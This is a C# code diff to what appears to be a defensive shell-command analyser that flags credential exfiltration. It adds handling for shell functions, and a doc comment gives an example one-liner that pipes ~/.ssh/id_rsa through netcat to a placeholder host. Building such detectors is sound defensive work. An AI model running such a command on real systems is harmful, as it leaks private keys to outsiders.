@@ -13,7 +13,7 @@ public sealed partial class CommandWalker
     {
         var facts = new CommandFacts();
         string? value = null;
-        var canon = new List<string>();
+        var canon = substitution ? new List<string>() : null;
         foreach (var item in script.Items)
         {
             for (var i = 0; i < item.Pipelines.Count; i++)
@@ -25,14 +25,14 @@ public sealed partial class CommandWalker
                 var pipeFacts = FinishPipeline(stages, span.Start, span.Length);
                 AfterCommand(pipeFacts);
                 facts.Merge(pipeFacts);
-                if (!substitution) continue;
+                if (canon is null) continue;
                 canon.Add(string.Join(" | ", stages.Select(s => s.Effective is null ? "…" : Render(s.Effective, withRedirects: false))));
                 // `which python || which python3` prints what its first alternative prints.
                 if (script.Items.Count == 1 && i == 0 && item.Ops.All(op => op == "||") && stages.All(s => s.Effective is not null))
                     value = StaticEvaluator.Evaluate(stages.Select(s => s.Effective!).ToList(), Limits.MaxDecodedChars);
             }
         }
-        return new ScriptResult(facts, value, string.Join(" ; ", canon));
+        return new ScriptResult(facts, value, canon is null ? "" : string.Join(" ; ", canon));
     }
 
     private CommandFacts WalkCommand(ShellCommand command)
@@ -45,6 +45,7 @@ public sealed partial class CommandWalker
                 var bodyFacts = WalkCommand(function.Body);
                 var span = Span(function.Start, function.End);
                 Form.Add("func", FunctionShape.Describe(function), span.Start, span.Length);
+                if (function.Name.Length > 0 && _functions.Count < 64) _functions[function.Name] = function.Body;
                 return bodyFacts;
             case CompoundCommand compound:
                 var facts = new CommandFacts();
@@ -90,12 +91,13 @@ public sealed partial class CommandWalker
                 canonArgs.Add(field.Canon);
             }
         }
-        var redirects = simple.Redirects.Select(words.Redirect).ToList();
+        IReadOnlyList<RedirectSpec> redirects = simple.Redirects.Count == 0 ? [] : simple.Redirects.Select(words.Redirect).ToList();
         var command = new ArgvCommand(argv, canonArgs, redirects);
         if (argv.Count == 0 && redirects.Count == 0) return fromWords;
         Builtins(command, span);
         var facts = VisitCommand(command, span.Start, span.Length);
         facts.Merge(fromWords);
+        if (argv.Count > 0 && _functions.TryGetValue(argv[0], out var body)) facts.Merge(CallFunction(argv, body));
         if (facts.ReadsSecret && facts.SendsNetwork) Flow("credential-exfil " + (facts.Effective?.Program ?? command.Program), span.Start, span.Length);
         return facts;
     }
@@ -124,6 +126,33 @@ public sealed partial class CommandWalker
                     if (eq > 0) WalkNested(a[(eq + 1)..], ScriptDialect.Posix, span.Start, span.Length);
                 }
                 break;
+        }
+    }
+
+    /// <summary>
+    /// A call of a function the line defined: its body is walked again with <c>$1</c>… bound to the call's arguments,
+    /// so <c>f(){ cat "$1" | nc h 1; }; f ~/.ssh/id_rsa</c> reads what it reads. Not into a function already being
+    /// called (recursion), and a bounded number of times per line.
+    /// </summary>
+    private CommandFacts CallFunction(List<string> argv, ShellCommand body)
+    {
+        var name = argv[0];
+        if (_calling.Contains(name) || ++_functionCalls > Limits.MaxNestedScripts * 4) return CommandFacts.None;
+        string[] names = ["1", "2", "3", "4", "5", "6", "7", "8", "9", "@", "*"];
+        var saved = names.Select(Variable).ToArray();
+        for (var i = 0; i < 9; i++) SetVariable(names[i], i + 1 < argv.Count ? argv[i + 1] : null, append: false);
+        var all = string.Join(' ', argv.Skip(1));
+        SetVariable("@", all, append: false);
+        SetVariable("*", all, append: false);
+        _calling.Add(name);
+        try
+        {
+            return WalkCommand(body);
+        }
+        finally
+        {
+            _calling.Remove(name);
+            for (var i = 0; i < names.Length; i++) SetVariable(names[i], saved[i], append: false);
         }
     }
 
